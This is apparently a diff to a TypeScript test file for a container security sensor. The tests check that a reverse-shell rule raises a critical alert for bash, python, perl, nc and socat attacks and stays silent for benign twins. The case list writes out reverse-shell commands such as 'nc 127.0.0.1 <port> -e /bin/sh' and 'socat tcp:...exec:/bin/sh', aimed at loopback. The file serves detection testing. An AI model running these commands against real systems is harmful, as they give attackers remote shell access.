@@ -1,10 +1,13 @@
 // SPDX-FileCopyrightText: Bartizan contributors
 // SPDX-License-Identifier: Apache-2.0
 
-import { type Attack, AttackStage } from '@bartizan/testkit/attack';
+import { type AttackCase, AttackStage, summary, wanted } from '@bartizan/testkit/attack';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 
 const RULE = 'runtime.reverse-shell';
+const OWASP: AttackCase['expected']['owasp'] = { 2022: ['K07'], 2025: ['K05'] };
+/** The event has to be in the API within one second; five times that ends the test. */
+const PROMISE_MS = 1000;
 
 /** Connects and starts a shell. The attack gives it the connection as input and output, the twin does not. */
 const python = (isAttack: boolean): string =>
@@ -41,88 +44,81 @@ const stage = new AttackStage({
   },
 });
 
+/** A shell that is told by what its input and output are. */
+const onSocket = (program: string): AttackCase['expected'] => ({
+  severity: 'critical',
+  program,
+  because: ['process.name', 'stdio.in', 'stdio.out'],
+  owasp: OWASP,
+  technique: 'T1059.004',
+});
+
+const cases = (port: string): readonly AttackCase[] => [
+  {
+    name: 'bash',
+    rule: RULE,
+    attack: ['/bin/bash', '/opt/attack.sh', port],
+    twin: ['/bin/bash', '/opt/twin.sh', port],
+    expected: onSocket('bash'),
+  },
+  {
+    name: 'python',
+    rule: RULE,
+    attack: ['/usr/bin/python3', '/opt/attack.py', port],
+    twin: ['/usr/bin/python3', '/opt/twin.py', port],
+    expected: onSocket('dash'),
+  },
+  {
+    name: 'perl',
+    rule: RULE,
+    attack: ['/usr/bin/perl', '/opt/attack.pl', port],
+    twin: ['/usr/bin/perl', '/opt/twin.pl', port],
+    expected: onSocket('dash'),
+  },
+  {
+    name: 'nc -e',
+    rule: RULE,
+    attack: ['/bin/nc', '127.0.0.1', port, '-e', '/bin/sh'],
+    twin: ['/bin/nc', '127.0.0.1', port, '-e', '/bin/cat'],
+    expected: onSocket('dash'),
+  },
+  {
+    name: 'socat',
+    rule: RULE,
+    attack: ['/usr/bin/socat', `tcp:127.0.0.1:${port}`, 'exec:/bin/sh'],
+    twin: ['/usr/bin/socat', `tcp:127.0.0.1:${port}`, 'open:/dev/null'],
+    expected: { ...onSocket('socat'), because: ['process.name', 'process.command-line'] },
+  },
+];
+const names = cases('0').map(({ name }, at): [string, number] => [name, at]);
+
 describe('a reverse shell in a container', () => {
-  let port = '';
+  let played: readonly AttackCase[] = [];
   beforeAll(async () => {
     await stage.start();
-    port = String(await stage.listen());
-  }, 180_000);
+    played = cases(String(await stage.listen()));
+  }, 600_000);
   afterAll(() => stage.close(), 60_000);
 
-  const cases: readonly (readonly [string, () => Pick<Attack, 'attack' | 'twin'>, string])[] = [
-    [
-      'bash',
-      () => ({ attack: ['/bin/bash', '/opt/attack.sh', port], twin: ['/bin/bash', '/opt/twin.sh', port] }),
-      'bash',
-    ],
-    [
-      'python',
-      () => ({
-        attack: ['/usr/bin/python3', '/opt/attack.py', port],
-        twin: ['/usr/bin/python3', '/opt/twin.py', port],
-      }),
-      'dash',
-    ],
-    [
-      'perl',
-      () => ({
-        attack: ['/usr/bin/perl', '/opt/attack.pl', port],
-        twin: ['/usr/bin/perl', '/opt/twin.pl', port],
-      }),
-      'dash',
-    ],
-    [
-      'nc -e',
-      () => ({
-        attack: ['/bin/nc', '127.0.0.1', port, '-e', '/bin/sh'],
-        twin: ['/bin/nc', '127.0.0.1', port, '-e', '/bin/cat'],
-      }),
-      'dash',
-    ],
-    [
-      'socat',
-      () => ({
-        attack: ['/usr/bin/socat', `tcp:127.0.0.1:${port}`, 'exec:/bin/sh'],
-        twin: ['/usr/bin/socat', `tcp:127.0.0.1:${port}`, 'open:/dev/null'],
-      }),
-      'socat',
-    ],
-  ];
-
-  it.each(cases)(
-    'by %s raises one alert with its reasons, its twin none, and without the rule there is none',
-    async (_name, plan, program) => {
-      const { event, ofTwin, whenOff, seenAfterMs } = await stage.prove({ rule: RULE, ...plan() });
-      if (event === undefined) throw new Error(`no event\n${await stage.report()}`);
-      process.stdout.write(`reverse shell by ${program}: in the API after ${Math.round(seenAfterMs)} ms\n`);
-      expect(event).toMatchObject({
-        rule: RULE,
-        severity: 'critical',
-        source: 'sensor',
-        workload: { container: 'victim' },
-      });
-      expect(event.id).toMatch(/^n-[0-9a-f]+:[0-9a-f-]+:security:\d+$/);
-      expect(event.chain?.process.name).toBe(program);
-      expect(event.owasp).toEqual({ 2022: ['K07'], 2025: ['K05'] });
-      expect(event.attack).toContain('T1059.004');
-      const [reason] = event.decision.reasons;
-      expect(reason).toMatchObject({ rule: RULE, revision: expect.stringMatching(/^[0-9a-f]{64}$/) });
-      const fields = reason?.comparisons.map(({ field, held }) => [field, held]);
-      expect(fields).toEqual(
-        program === 'socat'
-          ? [
-              ['process.name', true],
-              ['process.command-line', true],
-            ]
-          : [
-              ['process.name', true],
-              ['stdio.in', true],
-              ['stdio.out', true],
-            ],
+  it.each(names)(
+    'by %s raises a critical alert with its reasons, and its twin none',
+    async (name, at) => {
+      const one = played[at];
+      if (one === undefined) throw new Error(name);
+      const outcome = await stage.prove(one);
+      process.stdout.write(
+        `reverse shell by ${name}: in the API after ${Math.round(outcome.seenAfterMs)} ms (promise ${PROMISE_MS} ms)\n`,
       );
-      expect(ofTwin.map(({ message }) => message.en)).toEqual([]);
-      expect(whenOff).toEqual([]);
-      expect(seenAfterMs).toBeLessThan(5000);
+      expect(summary(outcome), await stage.report()).toEqual(wanted(one));
+      expect(outcome.event?.attack).toContain(one.expected.technique);
+      expect(outcome.event?.chain?.ancestors.length).toBeGreaterThan(0);
+      expect(outcome.seenAfterMs).toBeLessThan(5 * PROMISE_MS);
     },
+    240_000,
   );
+
+  it('without the rule there is none', async () => {
+    await stage.disarm();
+    expect(await stage.playDisarmed(played)).toEqual([]);
+  }, 600_000);
 });
